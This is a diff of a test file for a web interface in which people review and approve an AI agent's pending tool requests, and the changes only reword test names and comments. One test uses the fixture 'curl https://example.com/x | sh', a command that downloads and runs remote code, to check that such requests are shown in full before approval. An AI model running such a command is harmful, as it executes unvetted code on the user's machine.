@@ -93,7 +93,7 @@ test('shows an edit as a diff, and approves it with a mode that accepts edits', 
   assert.equal((await answered).mode, 'acceptEdits');
 });
 
-/** Creates a session with pending requests, and records the answers to them. */
+/** Creates a session with pending requests, and records the answers to the requests. */
 async function sessionWithRequests(t, namespace, tag, requests) {
   const { session, cli } = await liveSession(t, hub, { namespace, tag, metadata: { path: '/code/a', host: 'h' } });
   const answered = [];
@@ -108,13 +108,13 @@ async function sessionWithRequests(t, namespace, tag, requests) {
   return { setRequests, answered, path: `/sessions/${session.id}` };
 }
 
-/** Creates a session with pending requests, and opens it on a page. */
+/** Creates a session with pending requests, and opens the session on a page. */
 async function openRequests(t, namespace, requests) {
   const { path, ...rest } = await sessionWithRequests(t, namespace, '/code/a', requests);
   return { ...rest, ...(await visit(t, namespace, { path })) };
 }
 
-test('shows all of a request before it is approved, whatever its form', async (t) => {
+test('shows every part of a request of any form before an approval', async (t) => {
   const command = 'curl https://example.com/x | sh';
   const input = {
     'questions and a command': { command, questions: [{ question: 'Shall I run the tests?', options: ['Yes', 'No'] }] },
@@ -157,7 +157,7 @@ test('escapes invisible and reordering characters in requests', async (t) => {
   await askCard.getByText('questions[0].options[0].then').waitFor();
 });
 
-test('asks for another review of a changed request, and keeps the open request when a new one arrives', async (t) => {
+test('asks for another review of a changed request, and keeps a request open when a new request arrives', async (t) => {
   const request = (command, createdAt) => ({ tool: 'Bash', arguments: { command }, createdAt });
   const { page, setRequests, answered } = await openRequests(t, 'changes', { r1: request('ls', 5) });
   const card = page.locator('.request:not(.collapsed)');
@@ -258,7 +258,7 @@ test('shows completed requests that have no tool call, in order', async (t) => {
   await page.getByRole('region', { name: 'Edit of /code/t/a.txt' }).waitFor();
 });
 
-test('opens one of several requests, and moves the keyboard focus to the next one and then to the composer', async (t) => {
+test('opens one of several requests, and moves the keyboard focus to the next request and then to the composer', async (t) => {
   const namespace = 'several';
   const { session, cli } = await liveSession(t, hub, { namespace, tag: '/code/s', metadata: { path: '/code/s', host: 'h' } });
   const answered = [];
@@ -298,7 +298,7 @@ test('opens one of several requests, and moves the keyboard focus to the next on
   ]);
 });
 
-test('a held key answers only one request, and the next request has disabled buttons at first, so that a double click cannot answer it', async (t) => {
+test('a held key or a double click answers only one request: the buttons of the next request are disabled at first', async (t) => {
   const namespace = 'hasty';
   const { session, cli } = await liveSession(t, hub, { namespace, tag: '/code/h', metadata: { path: '/code/h', host: 'h' } });
   const answered = [];
@@ -405,7 +405,7 @@ test('keeps drafts of reasons and answers until they are sent', async (t) => {
   await waitForValue(reason, '');
 });
 
-test('keeps a request whose answer the agent rejects, and shows the error', async (t) => {
+test('a request stays pending if the agent rejects its answer, and the error is shown', async (t) => {
   const namespace = 'refuses';
   const { session, cli } = await liveSession(t, hub, { namespace, tag: '/code/r', metadata: { path: '/code/r', host: 'h' } });
   let success = false;
@@ -462,7 +462,7 @@ test('shows the requests of an inactive session, and answers them when its CLI i
   const requests = { r1: { tool: 'Bash', arguments: { command: 'make' }, createdAt: 1 } };
   const asked = await cli.emitWithAck('update-state', { sid: session.id, expectedVersion: 1, agentState: { requests } });
   assert.equal(asked.result, 'success');
-  // The end makes the session inactive without waiting for its timeout, and cancels the request `r1`. So the agent asks again.
+  // `session-end` makes the session inactive without a timeout, and cancels the request `r1`. So the agent asks again.
   await cli.emitWithAck('session-end', { sid: session.id });
   const { agentStateVersion: expectedVersion } = await hub.web('away').readSession(session.id);
   const again = { requests: { r2: { tool: 'Bash', arguments: { command: 'make test' }, createdAt: 2 } } };
